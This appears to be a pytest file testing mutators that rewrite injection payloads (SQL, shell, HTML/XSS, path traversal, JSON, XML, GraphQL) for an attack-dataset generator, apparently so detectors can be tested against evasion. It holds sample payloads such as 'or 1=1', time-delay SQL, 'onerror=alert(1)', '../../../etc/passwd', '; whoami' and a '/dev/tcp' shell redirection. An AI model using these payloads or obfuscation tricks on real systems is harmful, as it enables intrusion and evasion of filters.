"""Mutations keep what a payload means: SQL by running it in SQLite, shell words by a POSIX parser and `bash -n`."""

from __future__ import annotations

import json
import random
import re
import shlex
import shutil
import sqlite3
import subprocess
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest

from vedette.datasets import mutators
from vedette.datasets.generate import generate_attack

STATEMENTS = [
    "SELECT 7 WHERE 1=1 AND 'abc'='abc'",
    "SELECT name FROM t WHERE id = 2 OR 1=1 ORDER BY name",
    "SELECT count(*) FROM t WHERE name LIKE 'a%' OR id IN (1, 2)",
    "SELECT id FROM t WHERE id <> 2 AND id != 3",
    "SELECT 1 UNION SELECT 2 UNION SELECT 3",
    "SELECT CASE WHEN 5 > 3 THEN 'yes' ELSE 'no' END",
    "SELECT name FROM t WHERE id BETWEEN 1 AND 2 AND name IS NOT NULL",
    "SELECT 12*3 FROM t WHERE NOT id=1",
]


@pytest.fixture(scope="module")
def database() -> sqlite3.Connection:
    connection = sqlite3.connect(":memory:")
    connection.executescript("CREATE TABLE t (id INT, name TEXT); INSERT INTO t VALUES (1,'anna'),(2,'bob'),(3,'cid');")
    return connection


@pytest.mark.parametrize("operator", [mutators.sql_case, mutators.sql_space, mutators.sql_number, mutators.sql_string,
                                      mutators.sql_tautology, mutators.sql_comment])  # fmt: skip
@pytest.mark.parametrize("statement", STATEMENTS)
def test_mutated_sql_gives_the_same_rows(
    database: sqlite3.Connection, operator: mutators.Mutator, statement: str
) -> None:
    expected = sorted(database.execute(statement).fetchall())
    for seed in range(25):
        mutated = operator(statement, random.Random(seed))
        assert sorted(database.execute(mutated).fetchall()) == expected, mutated


def test_sql_operators_of_other_engines_are_swapped() -> None:
    drawn = {mutators.sql_operator("x' AND 1=1 OR 2<>3", random.Random(seed)) for seed in range(40)}
    assert drawn == {"x' && 1=1 OR 2<>3", "x' AND 1=1 || 2<>3", "x' AND 1=1 OR 2!=3", "x' AND 1 LIKE 1 OR 2<>3"}


def test_the_literal_that_an_injection_closes_is_not_its_own() -> None:
    for payload in ("x' or 'abc'='abc", "1' and sleep(5) and 'x", "'; waitfor delay '0:0:5'--", "1' and a=N'bcd'--"):
        for seed in range(40):
            mutated = mutators.sql_string(payload, random.Random(seed))
            assert mutated == payload or mutated.startswith("x' or ('"), mutated
    drawn = {mutators.sql_string("-1 or sleep(5)='abc'", random.Random(seed)) for seed in range(40)}
    assert "-1 or sleep(5)=('a' 'bc')" in drawn  # MySQL's || is no concatenation
    drawn = {mutators.sql_string("1 where name='ab' waitfor delay '0:0:5'", random.Random(seed)) for seed in range(40)}
    assert drawn == {"1 where name='ab' waitfor delay '0:0:5'", "1 where name=('a'+'b') waitfor delay '0:0:5'"}


def test_a_doubled_quote_is_not_torn(database: sqlite3.Connection) -> None:
    drawn = {mutators.sql_string("select 'it''s' ", random.Random(seed)) for seed in range(60)}
    assert len(drawn) > 3
    assert {database.execute(text).fetchall()[0][0] for text in drawn} == {"it's"}


def test_what_must_stay_as_it_is_in_sql_does() -> None:
    for seed in range(40):
        rng = random.Random(seed)
        for payload in ("1+order+by+19--", "cast(a as char(9))", "declare @a nvarchar(4000)"):
            assert mutators.sql_number(payload, rng) == payload
        assert "!50000" in mutators.sql_number("1/*!50000 union*/ select 1", rng)
        assert mutators.sql_space("1/*!50000union all*/ select 1", rng).count("/*") == 1
        assert "&&" not in mutators.sql_operator("1 or 2 between 1 and 3", rng)
        for payload in ("1; drop table a --", "' order by 9 -- ", "' union select a from b -- ", "x' limit 1 #"):
            assert mutators.sql_invariant(payload, rng) == payload
        assert mutators.sql_invariant("x' or a=1 -- ", rng) != "x' or a=1 -- "


def test_sql_in_text_is_closed_behind() -> None:
    assert mutators.standing_in_text("1 or 1=1", "sqli") == "1 or 1=1 -- "
    assert mutators.standing_in_text("' or 'a'='a'", "sqli") == "' or 'a'='a' -- "
    for payload in ("' or 'a'='a", "1 or 1=1--", '" or "a"="a'):
        assert mutators.standing_in_text(payload, "sqli") == payload
    assert mutators.standing_in_text("whoami", "cmdi") == "; whoami"
    assert mutators.standing_in_text("a|whoami", "cmdi") == "a|whoami"
    for payload in ("cmd /c dir", "ping -n 9 127.0.0.1", "tasklist", "%COMSPEC:~0,-7%calc", "wh^oami /all"):
        assert mutators.standing_in_text(payload, "cmdi") == f"& {payload}"
    for payload in ("Get-Process", "systemctl set-environment A=b", "start-stop-daemon -S -x /bin/sh", "echo cmd=id"):
        assert mutators.standing_in_text(payload, "cmdi") == f"; {payload}"
    assert mutators.standing_in_text("--exec=id", "cmdi") == "--exec=id"


def test_words_stand_before_sql_only_in_a_literal() -> None:
    for payload in ("1 or 1=1", "1 union select 'a'", "-1 or name='x'", '1 and "a"="a"', "1;waitfor delay '0:0:5'--"):
        assert not mutators.may_follow_text(payload, "sqli")
        for seed in range(60):
            assert mutators.mutate(payload, "sqli", random.Random(seed))[0] in "1-(N", payload
    for payload in ("' or 1=1", "x') or 1=1--", '1" or 1=1#', "%27 or 1=1--"):
        assert mutators.may_follow_text(payload, "sqli")
    assert mutators.may_follow_text("; id", "cmdi")


@pytest.mark.parametrize("command", ["cat /etc/hostname", "ls -la /tmp", "; id", "| uname -a", "ping -c 1 localhost"])
def test_quotes_leave_the_words_that_a_shell_reads(command: str) -> None:
    for seed in range(25):
        assert shlex.split(mutators.shell_quotes(command, random.Random(seed))) == shlex.split(command)


@pytest.mark.parametrize("command", ["id", "; uname -a", "| printf done"])
def test_empty_expansions_leave_what_a_shell_runs(command: str) -> None:
    bash = shutil.which("bash")
    assert bash
    drawn = {mutators.shell_empty(command, random.Random(seed)) for seed in range(25)}
    assert len(drawn) > 5
    for text in drawn:
        assert text != command
        word = text.lstrip(";| ")
        plain = command.lstrip(";| ")
        outputs = {
            subprocess.run([bash, "-c", line], check=True, capture_output=True, text=True).stdout
            for line in (word, plain)
        }
        assert len(outputs) == 1, text


def test_carets_and_case_leave_what_cmd_reads() -> None:
    drawn = {mutators.cmd_carets("& ipconfig /all", random.Random(seed)) for seed in range(40)}
    assert len(drawn) > 8
    assert {text.replace("^", "").lower() for text in drawn} == {"& ipconfig /all"}
    assert mutators.cmd_carets('& cmd /c "ipconfig"', random.Random(1)) == '& cmd /c "ipconfig"'


def test_windows_is_told_nothing_that_only_a_posix_shell_reads() -> None:
    for payload in ("& ping -n 9 127.0.0.1", "; Get-Process", "| type c:\\a.txt"):
        for seed in range(20):
            rng = random.Random(seed)
            assert mutators.shell_quotes(payload, rng) == payload
            assert mutators.shell_empty(payload, rng) == payload
            assert mutators.shell_separator(payload, rng) == payload
            plain = mutators.cmd_carets(payload, rng).replace("^", "").lower()
            assert plain == payload.lower()


def test_a_document_gets_no_words_beside_it() -> None:
    payload = '{"host": "a;id"}'
    for seed in range(60):
        mutated = mutators.mutate(payload, "cmdi", random.Random(seed))
        assert mutated.startswith("{")
        assert mutated.endswith("}")


def test_a_rare_program_is_spelled_otherwise_where_a_command_begins() -> None:
    for payload in ("; highlight --no-doc /a/b", "x|latexmk -f ./a.tex", "$(pinky @/etc/hosts)"):
        drawn = {mutators.shell_quotes(payload, random.Random(seed)) for seed in range(20)}
        drawn |= {mutators.shell_empty(payload, random.Random(seed)) for seed in range(20)}
        assert len(drawn) > 8
    for payload in ("; while /a/b; do :; done", "see; then go home", "& adplus /crash", "they see /etc/b/c"):
        assert mutators.shell_quotes(payload, random.Random(1)) == payload


def test_blanks_in_quotes_stay() -> None:
    assert mutators.shell_ifs("; sh -c 'id -u' x", random.Random(1)) == ";\tsh\t-c\t'id -u'\tx"
    for payload in ("x'; id -u", 'a"; id -u', "echo a\\ b 'c d'"):
        assert mutators.shell_ifs(payload, random.Random(1)) == payload


def test_a_separator_becomes_another() -> None:
    drawn = {mutators.shell_separator("; id", random.Random(seed)) for seed in range(40)}
    assert drawn == {"\n id", "& id", "| id"}
    assert {mutators.shell_separator(";v=ls;$v", random.Random(seed)) for seed in range(40)} == {
        "\nv=ls;$v",
        "&v=ls;$v",
    }
    for payload in (";; id", ";| id", "a; id"):
        assert mutators.shell_separator(payload, random.Random(1)) == payload
    assert mutators.shell_separator("\nid", random.Random(1)) == ";id"


def test_posix_is_told_nothing_that_only_windows_reads() -> None:
    for payload in ("a%0d%0aid", "?cmd=id", "; systemctl set-environment A=b", "; start-stop-daemon -S -x /bin/sh",
                    "; tmux new-session -d", "; while read cmd; do $cmd; done", "; add-apt-repository ppa:a/b",
                    "; aws sts get-caller-identity", "; invoke-rc.d x start"):  # fmt: skip
        for seed in range(40):
            assert mutators.cmd_carets(payload, random.Random(seed)) == payload
    drawn = {mutators.shell_quotes("a%0d%0aid; tmux new-session -d", random.Random(seed)) for seed in range(40)}
    assert len(drawn) > 2


def test_slashes_of_paths_only() -> None:
    drawn = {mutators.shell_path("cat /etc/a.d/hosts ./b/c", random.Random(seed)) for seed in range(9)}
    assert "cat /etc//a.d//hosts ./b//c" in drawn
    for payload in ("sed s/a/b/ x", "echo YWJj/ZGVm | base64 -d", "sh >& /dev/tcp/a/1", "docker run a/b"):
        assert {mutators.shell_path(payload, random.Random(seed)) for seed in range(9)} == {payload}


def test_a_last_tag_is_left_open() -> None:
    text = "<img src=x onerror=alert(1)>"
    drawn = {mutators.html_open(text, random.Random(seed)) for seed in range(20)}
    assert all(other.startswith(text[:-1]) and not other.endswith(">") for other in drawn)
    assert mutators.html_open("<b>x</b>", random.Random(1)) == "<b>x</b>"


def test_mutated_shell_still_parses() -> None:
    bash = shutil.which("bash")
    assert bash
    commands = ["id; ls -la /tmp", "cat /etc/hostname | head -n 1", "uname -a && echo done", "$(id)", "ls /tmp & id"]
    for seed in range(10):
        for command in commands:
            mutated = command
            for operator in mutators.MUTATORS["cmdi"]:
                mutated = operator(mutated, random.Random(seed))
            assert subprocess.run([bash, "-n", "-c", mutated], check=False).returncode == 0, mutated


class _Reader(HTMLParser):
    """Collects tags with their attributes, as a browser's tokenizer names them."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


@pytest.mark.parametrize("operator", [mutators.html_case, mutators.html_entities])
def test_mutated_markup_has_the_same_tags_and_handlers(operator: mutators.Mutator) -> None:
    text = '<img src="x" onerror="alert(1)"><svg onload="confirm(2)"><a href="/x" onclick=\'go(3)\'>y</a>'
    plain = _Reader()
    plain.feed(text)
    for seed in range(25):
        mutated = _Reader()
        mutated.feed(operator(text, random.Random(seed)))
        assert mutated.seen == plain.seen


def test_white_space_never_ends_an_attribute_or_breaks_a_script() -> None:
    for seed in range(60):
        rng = random.Random(seed)
        link = _Reader()
        link.feed(mutators.html_scheme("<a href=javascript:a(1)>x</a>", rng))
        address = "".join(str(link.seen[0][1]["href"]).split()).lower()
        assert (link.seen[0][0], address) == ("a", "javascript:a(1)")
        assert "\n" not in mutators.html_scheme("<script>location='javascript:a(1)'</script>", rng)
        image = _Reader()
        image.feed(mutators.js_call("<img src=x onerror=alert(1)>", rng))
        assert set(image.seen[0][1]) == {"src", "onerror"}
        assert mutators.html_case("window.onerror=eval", rng) == "window.onerror=eval"
        assert "onerror" in mutators.html_case("<script>{onerror=alert}throw 1</script>", rng)


def test_paths_only_change_their_spelling() -> None:
    for seed in range(40):
        mutated = mutators.path_spelling("../../../etc/passwd", random.Random(seed))
        assert mutated.endswith("etc/passwd")
        assert mutators.path_depth("../../etc/passwd", random.Random(seed)).count("../") > 2


@pytest.mark.parametrize("family", ["sqli", "xss", "cmdi", "traversal", "ssti", "deser", "upload"])
def test_most_payloads_of_the_classic_families_change(family: str) -> None:
    rng = random.Random(8)
    changed = 0
    for _ in range(200):
        payload = generate_attack(family, rng)
        changed += mutators.mutate(payload, family, rng) != payload
    assert changed >= (80 if mutators.MUTATORS.get(family) else 0)


def test_spaces_leave_what_documents_and_queries_say() -> None:
    text, tree = '{"a": {"$ne": "b, {c}"}, "d": [1, null]}', '<!DOCTYPE a [<!ENTITY b "c d">]><a>x &b;</a>'
    query, path = 'query{users(name:"a { b"){id ...on A{name}}}', "x' or //a/b[c = 'd e'] or 'f' = 'f"
    for seed in range(25):
        rng = random.Random(seed)
        assert json.loads(mutators.json_space(text, rng)) == json.loads(text)
        assert ElementTree.fromstring(mutators.xml_space(tree, rng)).text == "x c d"
        assert _words(mutators.graphql_space(query, rng).replace(",", " ")) == _words(query)
        spaced = mutators.xpath_space(path, rng)
        assert spaced.split() == path.split()
        assert "'d e'" in spaced
    assert mutators.json_space("{{7*7}}", random.Random(1)) == "{{7*7}}"
    assert mutators.graphql_space('{"query":"{a}"}', random.Random(1)) == '{"query":"{a}"}'


def _words(text: str) -> list[str]:
    return re.findall(r"\"[^\"]*\"|'[^']*'|\w+|[^\w\s]", text)


def test_what_names_a_scheme_or_a_parameter_keeps_its_signs() -> None:
    for seed in range(20):
        rng = random.Random(seed)
        assert mutators.path_noise("file:/etc/hosts", rng) == "file:/etc/hosts"
        assert mutators.json_space('[$in]["a"]=b', rng) == '[$in]["a"]=b'
